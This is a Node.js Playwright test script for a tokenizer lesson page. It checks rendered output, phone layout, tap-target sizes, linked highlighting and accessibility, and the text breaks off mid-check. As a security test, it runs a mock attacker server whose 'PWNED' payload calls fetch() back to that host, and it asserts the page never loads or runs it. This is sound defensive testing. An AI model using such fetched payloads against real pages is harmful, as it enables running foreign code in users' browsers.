// The lesson page in a real browser: node .ci/page.mjs REFERENCE NODE_MODULES
// REFERENCE is what .ci/page_states.py wrote; NODE_MODULES holds pyodide and
// playwright-core (and axe-core, if it is there). The clone is served as README.md
// says (python3 -m http.server, Pyodide linked in as .docs/pyodide), and opened in
// Debian's headless Chromium. The page must:
//   1. show, for every URL state, byte for byte what python3 prints for the command
//      it shows (the text, the figure as --svg - draws it, --languages' chart too, the
//      copy panel), at 375 x 812 with nothing cut off and every token, chip and button
//      24 x 24 px or more; paint --tokens' and --trace's tokens over the text, name each
//      as the table writes it, link each to its row (a row a distinct token) and to its
//      ID in the list, and lay --tokens' table out in cards on a phone; with no
//      vocabulary in .docs/vocab/, say so in one line, and run no --vocab;
//   2. light a token's ID, line and figure row together, by mouse, keyboard and tap,
//      --tokens' (and --trace's) painted tokens and listed IDs too; name them, announce
//      errors; on a slide (1920 x 1080, and at 200% zoom) show the output and the figure
//      together; never wrap a row of --languages' table (fit it, or scroll it sideways
//      as one);
//      and take a real mouse's clicks on the copy panel's radio buttons and copy button
//      at 1366 x 768, 1366 x 900, 1920 x 1080 and 200% zoom, nothing lying over them;
//   3. run no code but its own folder's, whatever ?pyodide= says, and send nothing
//      away: each spelling refused before any request, and the page's own
//      Content-Security-Policy stopping them with the checks taken out;
//   4. never freeze, on a busy machine too, so every budget is a part of what a bare
//      loadPyodide() and runPython takes in the same run: no main-thread task, and no
//      key press shown, later than a 40th of its whole time, while loading, during
//      --train, or for an answer too long to show whole, which comes in parts,
//      shows its start, says what it left out, and saves the whole; the first paint
//      within a quarter of its time, the first Python output within 1.3x; a status that
//      only goes forward (loading, arrived, started, ready), never back; a held arrow
//      key runs only where it stops; an address of at most 8,000 characters, which the
//      server takes; and with the real vocabularies' files in .docs/vocab/ (linked in from
//      TOKEMBED_CACHE, and removed after: OpenAI's three, and Llama 3's if it is there),
//      look for them only for the views that take --vocab and --languages, read them
//      only once --vocab or --languages runs, and show byte for byte what python3 prints
//      with them in its cache; a damaged one left out, in the
//      page's own words, on plain http from this machine's own address too (no
//      crypto.subtle there);
//   5. end each failure (file://, no tokembed.py, no pyodide.asm.wasm, at once; a fetch
//      that hangs, tokembed.py's or pyodide.asm.wasm's, after the worker's own 30 s; a bad
//      Pyodide folder; no network) with one message that names the file, says what to
//      run, stays in its column, and names the README.md section that says so; wait
//      out a slow start and four tabs loading at once; and stop a view that hangs or a
//      worker that dies, say which (or, on plain http from another machine, with no Web
//      Lock to tell them apart, say that it cannot tell), and go on with a fresh one.
import { createServer } from "node:http";
import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync } from "node:fs";
import { networkInterfaces } from "node:os";
import { join, resolve } from "node:path";
import { launch, linkPyodide, pythonServer, settled, SERVE } from "./page-serve.mjs";

const [reference, modules] = process.argv.slice(2);
// PAGE_ONLY=1,4 runs those sections alone, while developing; CI runs them all
const only = (section) => !process.env.PAGE_ONLY ||
  process.env.PAGE_ONLY.split(",").includes(String(section));
const clone = process.cwd();
const problems = [];
const fail = (message) => {
  console.log(`FAIL: the page ${message}`);
  process.exit(1);
};
const check = (ok, message) => ok || problems.push(message);
const done = (what) => {
  if (problems.length) fail(`${what}:\n  ${problems.join("\n  ")}`);
  console.log(`page: ${what}: ok`);
};
const read = (name) => readFileSync(join(reference, name), "utf8");
const states = JSON.parse(read("states.json"));
const big = JSON.parse(read("big.json"));
const views = JSON.parse(read("views.json"));  // [flag, takes, help] in VIEWS order
const vocabularies = JSON.parse(read("vocabularies.json"));  // {files: {name: file}, cache}
const vocabStates = JSON.parse(read("vocab.json"));  // null: no files to serve
const median = (xs) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)];
let bareTook = 3000;  // a bare loadPyodide() and runPython, ms: section 4 measures it
const seconds = (ms) => `${(ms / 1000).toFixed(2)} s`;
const short = (text) => (text.length > 300 ? `${text.slice(0, 300)}…` : text);
const served = (name) => readFileSync(join(clone, ".docs", name), "utf8");
const constant = (name) => Number(new RegExp(`const ${name} = ([\\d_]+);`)
  .exec(served("page.js"))[1].replace(/_/g, ""));
const RUN_LIMIT = constant("RUN_LIMIT_MS");
const [SHOW_CHARS, SHOW_LINES] = [constant("SHOW_CHARS"), constant("SHOW_LINES")];
// The real vocabularies' folder: none in it for all but the checks that put them there
const vocabFolder = join(clone, ".docs", "vocab");
if (existsSync(vocabFolder)) {
  fail("check needs .docs/vocab/ empty: move the vocabularies there away while it runs");
}
const names = Object.keys(vocabularies.files), files = Object.values(vocabularies.files);
const listed = (xs) => `${xs.slice(0, -1).join(", ")} and ${xs.at(-1)}`;
const NONE_SERVED = `This page's server has no real vocabulary: a deployer offers ` +
  `${listed(names)} by putting ${listed(files)} in .docs/vocab/.`;

linkPyodide(clone, modules);
const site = await pythonServer(clone);
// The clone served as a teacher serves it to a class, on the machine's own address, not
// 127.0.0.1: plain http there is no secure context (no crypto.subtle, no Web Locks).
// Null if this machine has no such address.
let classroom;
const classServer = async () => {
  const address = Object.values(networkInterfaces()).flat()
    .find((face) => face.family === "IPv4" && !face.internal)?.address;
  classroom ??= address ? await pythonServer(clone, address) : null;
  if (!classroom) {
    if (process.env.CI) fail("cannot be checked as a class sees it: this machine has no " +
                             "address but 127.0.0.1");
    console.log("page: this machine has no address but 127.0.0.1: the checks on plain " +
                "http from another machine did not run");
  }
  return classroom;
};
const base = site.base;
const browser = await launch(modules);

// Every request the browser makes, from the page or its worker, must stay on
// 127.0.0.1; an attacker's server on 127.0.0.2 must never be asked for anything.
const outside = [];
const attacked = [];
const attacker = createServer((request, response) => {
  attacked.push(request.url);
  response.writeHead(200, { "content-type": "text/javascript",
                            "access-control-allow-origin": "*" });
  response.end(PAYLOAD);
});
await new Promise((resolve) => attacker.listen(0, "127.0.0.2", resolve));
const evil = `http://127.0.0.2:${attacker.address().port}`;
const PAYLOAD = `globalThis.document && (document.title = "PWNED");
console.log("PWNED");
fetch("${evil}/ran").catch(() => {});
export const loadPyodide = () => { throw new Error("PWNED"); };`;
const elsewhere = [];  // a folder of this site outside the page's own: another project's
const guard = async (made) => made.route(`${base}/other/**`, (route) => {
  elsewhere.push(route.request().url());
  route.fulfill({ contentType: "text/javascript", body: PAYLOAD });
});

async function context(options = {}, also = null) {  // also: one more site it may ask
  const made = await browser.newContext(options);
  await made.route("**/*", (route) => {
    const url = route.request().url();
    if (/^(blob:)?https?:\/\/127\.0\.0\.1[:/]/.test(url) || /^(data|file):/.test(url) ||
        (also && url.replace(/^blob:/, "").startsWith(`${also}/`))) {
      return route.fallback();
    }
    outside.push(url);
    return route.abort();
  });
  await guard(made);
  await made.addInitScript(() => {  // before the page's own script: what a person sees
    window.__longest = [];
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) {
        window.__longest.push([Math.round(entry.startTime), Math.round(entry.duration)]);
      }
    }).observe({ type: "longtask", buffered: true });
    window.__slowest = 0;  // the slowest response to a key press or a click, in ms
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) {
        window.__slowest = Math.max(window.__slowest, entry.duration);
      }
    }).observe({ type: "event", durationThreshold: 16, buffered: true });
    document.addEventListener("DOMContentLoaded", () => requestAnimationFrame(() => {
      window.__firstFrame = document.getElementById("output")?.textContent;
    }));
    window.__said = [];  // each status line in turn, as a person reads it
    document.addEventListener("DOMContentLoaded", () => {
      const status = document.getElementById("status");
      const heard = () => window.__said.at(-1) !== status.textContent &&
        window.__said.push(status.textContent);
      new MutationObserver(heard).observe(status, { childList: true, characterData: true,
                                                   subtree: true });
    });
  });
  return made;
}

function watch(page) {  // code from elsewhere announces itself: count it
  const seen = [];
  page.on("console", (message) => message.text().includes("PWNED") && seen.push(message.text()));
  page.on("dialog", (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    dialog.dismiss().catch(() => {});
  });
  return seen;
}

const at = (query) => `${base}/.docs/index.html?${query}${query ? "&" : ""}pyodide=pyodide/`;
const shown = (page) => page.evaluate(() => {
  const p = window.tokembedPage, $ = (id) => document.getElementById(id);
  const svg = $("figure").querySelector("svg");
  return {
    output: $("output").textContent, whole: p.shown.output, command: p.shown.command,
    commandShown: $("command").textContent, figure: p.shown.figure,
    inline: $("figure").innerHTML,
    size: svg ? [svg.getAttribute("width"), svg.getAttribute("height"), svg.getAttribute("style")]
              : null,
    figureNote: $("figure-note").hidden ? "" : $("figure-note").textContent,
    cut: $("cut-note").hidden ? "" : $("cut-text").textContent,
    source: $("source").textContent, copyCommand: $("copy-command").textContent,
    url: location.search, path: location.pathname + location.search, error: $("output").classList.contains("error"),
    linkNote: $("text-link-note").textContent, tokens: p.shown.tokens,
    status: $("status").textContent,
  };
});
// The figure as the browser parses --svg -'s bytes, unchanged: the page sizes its box only.
const parsed = (page, svg) => page.evaluate((svg) => {
  const box = document.createElement("div");
  box.innerHTML = svg;
  return box.innerHTML;
}, svg);
const longAfter = (page, what) => page.evaluate((what) => {
  const from = window.tokembedPage.events.filter(([name]) => name === what).pop()?.[1] ?? 0;
  return Math.max(0, ...window.__longest.filter(([start]) => start >= from).map(([, ms]) => ms));
}, what);

// --- 0. The HTML's copies: the lesson's output, and VIEWS -------------------------------------
if (only(0)) {
  const html = served("index.html");
  const unescape = (text) => text.replace(/&lt;/g, "<").replace(/&gt;/g, ">")
    .replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, "&");
  const pre = /<pre id="output"[^>]*>([^<]*)<\/pre>/.exec(html);
  check(pre && unescape(pre[1]) === read("lesson.out"),
        "<pre id=output> is not the lesson's output, as python3 prints it");
  const copy = JSON.parse(/<script type="application\/json" id="views">([^<]*)<\/script>/
    .exec(html)?.[1] ?? "null");
  const pageViews = views.filter(([flag]) => !["--copy", "--exercise"].includes(flag));
  check(JSON.stringify(copy) === JSON.stringify(Object.fromEntries(
    pageViews.map(([flag, takes]) => [flag, takes]))), "<script id=views> is not VIEWS");
  const select = /<select id="view"[^>]*>([\s\S]*?)<\/select>/.exec(html)?.[1] ?? "";
  const options = [...select.matchAll(/<option value="([^"]*)"/g)].map((m) => m[1]);
  check(JSON.stringify(options) === JSON.stringify(pageViews.map(([flag]) => flag)),
        `the View select lists ${options}, not VIEWS in its order`);
  const known = JSON.parse(/<script type="application\/json" id="vocabularies">([^<]*)<\/script>/
    .exec(html)?.[1] ?? "null");
  check(JSON.stringify(known) === JSON.stringify(vocabularies.files),
        `<script id=vocabularies> is ${JSON.stringify(known)}, not tokembed.VOCABULARIES' files`);
  check(!/<script(?![^>]*type="application\/json")[^>]*>[^<\s]/.test(html),
        "has an inline script, which its Content-Security-Policy would block");
  check(/<textarea id="text"/.test(html), "takes its text in no <textarea>: line breaks are lost");
  done("the HTML's copy of the lesson's output, of VIEWS and of the vocabularies' files");
}

// --- 1. Every URL state, on a phone: the same bytes, and nothing cut off -------------------
const phone = await context({ viewport: { width: 375, height: 812 }, hasTouch: true,
                              isMobile: true, deviceScaleFactor: 1 });
const phoneSeen = [];
const layout = (page) => page.evaluate(() => {
  const output = document.getElementById("output");
  const svg = document.querySelector("#figure svg");
  const scroller = svg?.closest(".scroller");
  const source = document.getElementById("source").closest(".scroller");
  const visible = (element) => element && !element.hidden && element.offsetParent !== null;
  // --tokens' table, a card a distinct token: its ID and bytes, times in the text and in
  // training on one line, its row of numbers under them, starting at one x for every token
  const rows = [...output.querySelectorAll(".cells[data-position]:not(.more)")];
  const numbered = rows.filter((line) => line.querySelector(".numbers"));
  const box = (cell) => cell?.getBoundingClientRect() ?? { left: NaN, top: NaN, bottom: NaN };
  const lefts = numbered.map((line) => Math.round(box(line.querySelector(".numbers")).left));
  const lineHeight = parseFloat(getComputedStyle(output).lineHeight);
  const cards = numbered.filter((line) => {
    const [id, ...rest] = [...line.children].filter((cell) => !cell.matches(".numbers, .blank"))
      .map(box);
    const numbers = box(line.querySelector(".numbers"));
    return rest.length >= 2 && rest.every((cell) => Math.abs(cell.top - id.top) < 2) &&
      numbers.top >= id.bottom - 1 && id.bottom - id.top < 1.5 * lineHeight;
  }).length;
  return {
    outputCut: output.scrollWidth - output.clientWidth,
    // a table read across (--languages) may scroll sideways, as one, if it says so
    outputCue: output.classList.contains("table") &&
      visible(document.getElementById("output-more")),
    pageCut: document.documentElement.scrollWidth - window.innerWidth,
    cellPx: svg ? 14 * svg.getBoundingClientRect().width / svg.viewBox.baseVal.width : null,
    figureCut: scroller ? scroller.scrollWidth - scroller.clientWidth : 0,
    figureCue: scroller ? visible(scroller.closest(".pane").querySelector(".more-note")) : false,
    sourceCut: source.scrollWidth - source.clientWidth,
    sourceCue: visible(source.nextElementSibling),
    rows: rows.length, numbered: numbered.length, lefts: [...new Set(lefts)], cards,
    // WCAG 2.5.8: what a finger taps is 24 x 24 px or more, --tokens' listed IDs too,
    // each of which lights a place of its own. A radio button is tapped by its label; any
    // other ID, a line or a figure row lights what its token does (WCAG's "equivalent"),
    // and a link in a sentence is exempt.
    small: [...document.querySelectorAll("#output .token, #output .id.place, #strip .tok, " +
                                          "button, select, " +
                                          "input:not([type=radio]), textarea, summary, " +
                                          "fieldset label")]
      .filter((target) => target.getClientRects().length && !target.closest("[hidden]"))
      .map((target) => [target.getBoundingClientRect(), target])
      .filter(([box]) => box.width < 24 || box.height < 24)
      .map(([box, target]) => `${target.id || target.className || target.tagName}` +
           ` "${target.textContent.trim().slice(0, 20)}" ${box.width} x ${box.height}`),
  };
});
// What the strip paints, read back: each whole token's characters, and each character
// that tokens share shown once; with the IDs in order, and each token's name. And what
// the output links: its table's rows, a distinct token each, and its list of every ID.
const painted = (page) => page.evaluate(() => {
  const strip = document.getElementById("strip");
  const text = [...strip.children].map((piece) => piece.matches(".split")
    ? piece.querySelector(".glyph").textContent
    : [...piece.childNodes].filter((node) => !node.classList?.contains("nl"))
        .map((node) => node.textContent).join("")).join("");
  const tokens = [...strip.querySelectorAll(".tok")];
  return { text, ids: tokens.map((token) => Number(token.dataset.row)),
           names: tokens.map((token) => `${token.getAttribute("role")}: ` +
                                         token.getAttribute("aria-label")),
           parts: strip.querySelectorAll(".split .tok").length,
           rows: [...document.querySelectorAll("#output .cells[data-position]:not(.more)")]
             .map((line) => [Number(line.dataset.row), Number(line.dataset.position)]),
           // each row's token, as its table writes it, and as the page names it
           written: [...document.querySelectorAll("#output .cells[data-position]:not(.more)")]
             .map((line) => [line.querySelector(".cell").textContent.replace(/^\s*\d+  /, "")
               .trimEnd(), window.tokembedPage.shown.tokens?.shown[line.dataset.position]]),
           listed: [...document.querySelectorAll("#output .line:not(.cells) .id")]
             .map((id) => [Number(id.dataset.row), Number(id.dataset.position)]),
           more: Number(/^\.\.\. and ([\d,]+) more distinct tokens/m
             .exec(document.getElementById("output").textContent)?.[1].replace(/,/g, "") ?? 0) };
});
// The painted tokens and the output's links agree: every ID listed in the text's order,
// at its place; a row for each distinct token, in the order of first use, at its first
// place, the rest counted
function linked(strip, where, all = strip.ids) {
  const first = new Map();
  all.forEach((id, k) => first.has(id) || first.set(id, k));
  const distinct = [...first.keys()];
  check(strip.ids.length &&
        JSON.stringify(strip.ids) === JSON.stringify(all.slice(0, strip.ids.length)),
        `${where}: paints tokens ${strip.ids.slice(0, 20)}, not ${all.slice(0, 20)}`);
  check(JSON.stringify(strip.listed) === JSON.stringify(all.map((id, k) => [id, k])),
        `${where}: its list of IDs links ${JSON.stringify(strip.listed.slice(0, 20))}, not ` +
        `each ID to its place`);
  check(strip.rows.length && strip.rows.length + strip.more === distinct.length &&
        JSON.stringify(strip.rows) === JSON.stringify(distinct.slice(0, strip.rows.length)
          .map((id) => [id, first.get(id)])),
        `${where}: its rows link ${JSON.stringify(strip.rows)} and count ${strip.more} more, ` +
        `not the distinct tokens ${distinct}`);
  const otherwise = strip.written.filter(([table, named]) => table !== named);
  check(!otherwise.length, `${where}: names tokens otherwise than its table writes them ` +
        `(table, name): ${JSON.stringify(otherwise.slice(0, 5))}`);
}
// The text a view of tokens split: the one after --, or, where none is given, the one
// its output quotes ("refund" under ..., "refund my order": 6 tokens)
const splitText = (argv, printed) => (argv.includes("--") ? argv[argv.indexOf("--") + 1]
  : JSON.parse(/^(".*?") (?:under |: [\d,]+ tokens?,)/m.exec(printed)?.[1] ?? "null"));
// What a view of tokens names each painted token: what it shows, its ID, the token as
// the table writes it (a part of a character, "\xf0 (of 😉)"), and its row, if it has one
const NAMED = /^option: (“[^]+”, )?token \d+, \S[^]*?(, row \d+)?(, part of “[^]+”)?$/;
async function visit(page, k, state) {
  await page.goto(at(state.query));
  await settled(page);
  const seen = await shown(page);
  const failed = existsSync(join(reference, `page-${k}.err`));
  const expected = read(`page-${k}.${failed ? "err" : "out"}`);
  const where = `?${short(state.query)}`;
  check(seen.command === state.command && seen.commandShown === state.command,
        `${where}: shows "${seen.command}", not "${state.command}"`);
  check(seen.output === expected && seen.whole === expected,
        `${where}: prints\n${seen.output}\n--- not\n${expected}--- and says "${seen.status}"`);
  check(seen.error === failed, `${where}: does not mark its error as one, or marks its ` +
        "output as an error");
  const figure = existsSync(join(reference, `page-${k}.svg`)) ? read(`page-${k}.svg`) : "";
  check(seen.figure === figure, `${where}: draws a different figure`);
  if (figure) {
    check(seen.inline === await parsed(page, figure) && seen.size[0] && seen.size[1] &&
          seen.size[2] === null, `${where}: changes the figure's SVG (width, height, style: ` +
          `${seen.size})`);
  }
  if (state.refused) {
    check(/64/.test(seen.figureNote) && /d_model/.test(seen.figureNote),
          `${where}: draws no figure, and says "${seen.figureNote}" of why`);
  }
  if (state.copy) {
    check(seen.source === read(`page-${k}.copy`), `${where}: the copy panel differs`);
    check(seen.copyCommand === state.copy, `${where}: copy command "${seen.copyCommand}"`);
  }
  const kept = new URLSearchParams(state.query);
  const now = new URLSearchParams(seen.url);
  for (const [name, value] of kept) {
    const defaults = { copy: "lookup", kind: "lesson" };
    if (name === "vocab" && !state.argv.includes("--vocab")) {  // one it does not run
      check(!now.has("vocab"), `${where}: keeps vocab=${value}, not run: ${seen.url}`);
      continue;
    }
    check(now.get(name) === value || (name === "view" && `--${now.get(name)}` === value) ||
          (defaults[name] === value && !now.has(name)),
          `${where}: lost ${name}=${value} from its URL: ${seen.url}`);
  }
  check(now.get("pyodide") === "pyodide/", `${where}: lost its own ?pyodide=: ${seen.url}`);
  const cut = await layout(page);
  check(cut.outputCut <= 0 || cut.outputCue, `${where}: at 375 px the output is ` +
        `${cut.outputCut} px too wide`);
  check(cut.pageCut <= 0, `${where}: at 375 px the page scrolls sideways by ${cut.pageCut} px`);
  if (cut.cellPx !== null) {
    check(cut.cellPx >= 11, `${where}: at 375 px the figure's numbers are ${cut.cellPx} px`);
    check(cut.figureCut <= 0 || cut.figureCue, `${where}: the figure is cut with no cue`);
  }
  check(cut.sourceCut <= 0 || cut.sourceCue, `${where}: the copy panel is cut with no cue`);
  check(!cut.small.length, `${where}: at 375 px, targets under 24 x 24 px: ${cut.small}`);
  if (["--tokens", "--trace"].includes(state.argv[0]) && !failed) {
    const text = splitText(state.argv, expected);
    const strip = await painted(page), rows = state.argv[0] === "--tokens";
    check(strip.text === text, `${where}: paints "${strip.text}", not the text "${text}"`);
    linked(strip, where, seen.tokens?.ids ?? []);
    check(strip.names.every((name) => NAMED.test(name) &&
                            NAMED.exec(name)[2] === (rows ? `, row ${/\d+/.exec(name)[0]}`
                                                          : undefined)),
          `${where}: names its tokens ${strip.names.slice(0, 3)}`);
    check(text.length === [...text].length || strip.parts >= 2,
          `${where}: shows no token as part of a character`);
  }
  if (state.argv[0] === "--tokens" && !failed) {
    check(cut.numbered > 0 && cut.numbered === cut.rows && cut.lefts.length === 1 &&
          cut.cards === cut.rows,
          `${where}: at 375 px the token table's rows start their numbers at x = ` +
          `${cut.lefts}, and ${cut.cards} of ${cut.rows} read as a card (ID, bytes, times; ` +
          "the row under them)");
  }
  // No vocabulary is served here: --tokens, --trace and --languages say so in one line, and
  // a link that asks for one runs without it, and says why
  if (["--tokens", "--trace", "--languages"].includes(state.argv[0])) {
    const note = await page.evaluate(() => ({
      text: document.getElementById("vocab-note").textContent,
      disabled: document.getElementById("vocab").disabled,
      options: [...document.getElementById("vocab").options].map((o) => o.value) }));
    const asked = new URLSearchParams(state.query).get("vocab");
    const said = asked === null ? NONE_SERVED : names.includes(asked)  // one line, each
      ? "This page's server has no real vocabulary, so the page shows the corpus's merges: " +
        `on your machine, python3 tokembed.py ${state.argv[0]} --vocab ${asked} reads ` +
        `${asked}, and a ` +
        `deployer offers it here by putting ${vocabularies.files[asked]} in .docs/vocab/.`
      : `This page knows no vocabulary “${asked}”, and its server has none: ` +
        NONE_SERVED.split(": ")[1];
    check(note.text === said && note.disabled && note.options.join() === "",
          `${where}: with no vocabulary served, the --vocab field says "${note.text}" ` +
          `(disabled: ${note.disabled}; offers ${note.options})`);
  }
}
if (only(1)) {
  // Two phones, each taking the next state: Pyodide's start is most of a visit.
  const queue = [...states.entries()];
  await Promise.all([0, 1].map(async () => {
    const page = await phone.newPage();
    phoneSeen.push(watch(page));
    for (let next = queue.shift(); next; next = queue.shift()) await visit(page, ...next);
    await page.close();
  }));
  check(!phoneSeen.flat().length, `ran code from elsewhere: ${phoneSeen.flat()}`);
  const looked = site.requests.filter((request) => request.includes("/.docs/vocab/"));
  check(looked.length && looked.every((request) => request.startsWith("HEAD ")),
        `with no vocabulary served, it asked for ${looked.join(", ") || "none"} (only HEAD)`);
  done(`${states.length} URL states at 375 x 812: the same bytes as python3, nothing cut off`);
}

// --- 2. Linked highlighting, the vocabulary's buttons, names, a slide ------------------------
if (only(2)) {
  const page = await phone.newPage();
  watch(page);
  await page.goto(at("view=table&text=my+order+order"));
  await settled(page);
  const lit = (on = page) => on.evaluate(() => ({
    figure: [...document.querySelectorAll("#figure .lit")].map((e) => e.dataset.row),
    output: [...document.querySelectorAll("#output .lit")].map((e) => e.dataset.row),
    lines: [...document.querySelectorAll("#output .line.lit")].map((e) => e.dataset.row),
    listed: [...document.querySelectorAll("#output .line:not(.cells) .id.lit")]
      .map((e) => `${e.dataset.row}@${e.dataset.position}`),
    strip: [...document.querySelectorAll("#strip .lit")].map((e) => e.dataset.row),
    selected: [...document.querySelectorAll("#strip [aria-selected=true]")].map((e) => e.dataset.row),
    note: document.getElementById("lit-note").textContent,
  }));
  await page.tap("#output .token >> text=order");  // a phone's tap, on a token
  let now = await lit();
  check(now.figure.length >= 6 && now.figure.every((row) => row === "4"),
        `a tapped token lit figure rows ${now.figure}, not row 4's cells, token and ID`);
  check(now.output.includes("4") && now.output.every((row) => row === "4"),
        `a tapped token lit output rows ${now.output}`);
  check(now.note.includes("token ID 4") && now.note.includes("positions 1, 2"),
        `a tapped token's note says "${now.note}"`);
  await page.tap("#figure text[data-row='1'] >> nth=0");  // and a tap on the figure
  now = await lit();
  check(now.output.includes("1") && now.output.every((row) => row === "1"),
        `a tapped figure row lit output rows ${now.output}`);
  await page.keyboard.press("Escape");
  // --tokens: a tap on a painted token lights it and its line; a tap on a line, the token
  await page.goto(at("view=tokens&text=refund+my+%F0%9F%98%89+order+my"));
  await settled(page);
  await page.tap("#strip .tok[data-row='344'] >> nth=0");  // " my"
  now = await lit();
  const mine = (await page.evaluate(() => window.tokembedPage.shown.tokens.ids))
    .flatMap((id, k) => (id === 344 ? [k] : []));
  check(mine.length === 2 && now.lines.length === 1 && now.output.every((row) => row === "344") &&
        now.listed.join() === mine.map((k) => `344@${k}`).join() &&
        now.strip.length === 2 && now.selected.length === 2 &&
        /^Token 344, ␣my, is row 344 of the table: its line, and its IDs in the list, are lit/
          .test(now.note) && now.note.includes(`positions ${mine.join(", ")}`),
        `a tapped painted token lit ${JSON.stringify(now)}`);
  await page.tap("#output .cells[data-row='318']");  // " order"
  now = await lit();
  check(now.strip.length === 1 && now.strip[0] === "318" && now.lines.join() === "318" &&
        now.listed.length === 1, `a tapped line of --tokens lit ${JSON.stringify(now)}`);
  const third = String((await page.evaluate(() => window.tokembedPage.shown.tokens.ids))[3]);
  await page.tap("#output .line:not(.cells) .id[data-position='3']");  // an ID in the list
  now = await lit();
  check(now.strip.length === 1 && now.strip[0] === third && now.lines.join() === third &&
        now.listed.join() === `${third}@3`,
        `a tapped ID of --tokens' list lit ${JSON.stringify(now)}`);
  // an ID of a token the text has twice lights its own place, not the other
  await page.tap(`#output .line:not(.cells) .id[data-position='${mine[1]}']`);
  now = await lit();
  const spots = await page.evaluate(() => [...document.querySelectorAll("#strip .lit")]
    .map((e) => `${e.dataset.row}@${e.dataset.position}`));
  check(now.listed.join() === `344@${mine[1]}` && spots.join() === `344@${mine[1]}` &&
        now.lines.join() === "344" && now.note.includes(`ID at position ${mine[1]} of the list`),
        `a tapped ID of " my", at ${mine[1]} (the text has it at ${mine}), lit ` +
        `${JSON.stringify(now)}, painted ${spots}`);
  const parts = await page.evaluate(() => [...document.querySelectorAll("#strip .split .tok")]
    .map((token) => token.getAttribute("aria-label")));
  check(parts.length === 4 && parts.every((name) => / \(of 😉\), row \d+$/.test(name)) &&
        parts[0] === "“\uFFFD”, token 240, \\xf0 (of 😉), row 240",
        `the emoji's four byte tokens are named ${parts}`);
  // --trace: its token table links as --tokens' does, but it has no row of a table to name
  await page.goto(at("view=trace&text=refund+my+order+my"));
  await settled(page);
  await page.tap("#strip .tok[data-row='344'] >> nth=1");
  now = await lit();
  check(now.lines.join() === "344" && now.listed.join() === "344@4,344@6" &&
        now.strip.length === 2 && /^Token 344, ␣my: its line, and its IDs in the list, are lit/
          .test(now.note), `a tapped painted token of --trace lit ${JSON.stringify(now)}`);
  await page.close();

  const desktop = await context({ viewport: { width: 1366, height: 900 } });
  const wide = await desktop.newPage();
  watch(wide);
  await wide.goto(at(""));
  await settled(wide);
  await wide.hover("#output .token >> text=refund");  // a mouse
  now = await wide.evaluate(() => [...document.querySelectorAll(".lit")].map((e) => e.dataset.row));
  check(now.length > 6 && now.every((row) => row === "3"), `hovering refund lit ${now}`);
  await wide.mouse.move(1, 1);
  await wide.focus("#text");  // the keyboard: Tab from the field reaches the tokens
  let reached = false;
  for (let k = 0; k < 40 && !reached; k += 1) {
    await wide.keyboard.press("Tab");
    reached = await wide.evaluate(() => document.activeElement.matches("#output .token"));
  }
  now = await wide.evaluate(() => ({ row: document.activeElement.dataset.row,
    lit: [...document.querySelectorAll(".lit")].map((e) => e.dataset.row),
    note: document.getElementById("lit-note").textContent,
    live: document.getElementById("lit-note").getAttribute("role") }));
  check(reached && now.lit.length > 1 && now.lit.every((row) => row === now.row),
        `Tab does not reach a token, or lights other rows: ${JSON.stringify(now)}`);
  check(now.note && now.live === "status", "a focused token is not announced");
  await wide.click("#words button[value=late]");  // a word button adds its word
  await settled(wide);
  const added = await shown(wide);
  check(await wide.inputValue("#text") === "late" &&
        added.command === "python3 tokembed.py -- late" &&
        added.output.startsWith("token ids: [5]\n"), `the late button gave ${added.command}`);
  // A view the page does not have: it says so, and keeps saying so once Python is ready
  await wide.goto(at("view=nonsense&text=my"));
  await settled(wide);
  const unknown = await shown(wide);
  check(unknown.command === "python3 tokembed.py -- my" &&
        /no view “nonsense”/.test(await wide.textContent("#view-note")),
        `?view=nonsense: shows ${unknown.command}, and says "${await wide.textContent("#view-note")}"`);
  // The output has a name a screen reader reads; two figures keep their ids apart.
  check(await wide.getByRole("region", { name: "What tokembed.py prints" }).count() === 1,
        "the output box has no accessible name");
  const ids = await wide.evaluate(() => {
    const second = document.createElement("div");
    document.body.append(second);
    second.innerHTML = window.tokembedPage.shown.figure;
    window.tokembedPage.uniqueIds(second.querySelector("svg"));
    const all = [...document.querySelectorAll("[id]")].map((e) => e.id);
    const dangling = [...document.querySelectorAll("svg")].flatMap((svg) => {
      const own = [...svg.querySelectorAll("[id]")].map((e) => e.id);
      return [svg, ...svg.querySelectorAll("*")].flatMap((e) => [
        ...(e.getAttribute("aria-labelledby") ?? "").split(" ").filter(Boolean),
        ...[...e.attributes].flatMap((a) => [...a.value.matchAll(/url\(#([^)]+)\)/g)]
          .map((m) => m[1]))]).filter((id) => !own.includes(id));  // each to its own
    });
    second.remove();
    return { repeated: all.filter((id, k) => all.indexOf(id) !== k), dangling };
  });
  check(!ids.repeated.length && !ids.dangling.length,
        `two figures: ids ${ids.repeated} repeat, references ${ids.dangling} dangle`);
  // --tokens by keyboard: one tab stop, then arrow keys along the tokens, each lighting
  // its line; a hovered line lights its token
  await wide.goto(at("view=tokens&text=refund+my+order+my+order"));
  await settled(wide);
  await wide.focus("#strip .tok[tabindex='0']");
  const along = [];
  for (const key of ["ArrowRight", "ArrowRight", "End", "Home"]) {
    await wide.keyboard.press(key);
    along.push(await wide.evaluate(() => ({
      at: document.activeElement.dataset.position,
      lines: [...document.querySelectorAll("#output .line.lit")].map((e) => e.dataset.row),
      stops: document.querySelectorAll("#strip [tabindex='0']").length })));
  }
  const ids2 = await wide.evaluate(() => window.tokembedPage.shown.tokens.ids);
  check(JSON.stringify(along.map((step) => step.at)) ===
        JSON.stringify(["1", "2", String(ids2.length - 1), "0"]) &&
        along.every((step, k) => step.stops === 1 && step.lines.length &&
                    step.lines.every((row) => row === String(ids2[Number(step.at)]))),
        `arrow keys on the painted tokens: ${JSON.stringify(along)}`);
  await wide.hover("#output [data-position='0']");
  now = await lit(wide);
  check(now.strip.length && now.strip.every((row) => row === String(ids2[0])),
        `hovering --tokens' first line lit painted tokens ${now.strip}`);
  await wide.mouse.move(1, 1);
  // a mouse over an ID of the list, of a token the text has twice: its own place only
  const twice = ids2.findLastIndex((id) => ids2.indexOf(id) !== ids2.lastIndexOf(id));
  await wide.hover(`#output .line:not(.cells) .id[data-position='${twice}']`);
  now = await lit(wide);
  check(twice > 0 && now.listed.join() === `${ids2[twice]}@${twice}` && now.strip.length === 1 &&
        now.lines.join() === String(ids2[twice]),
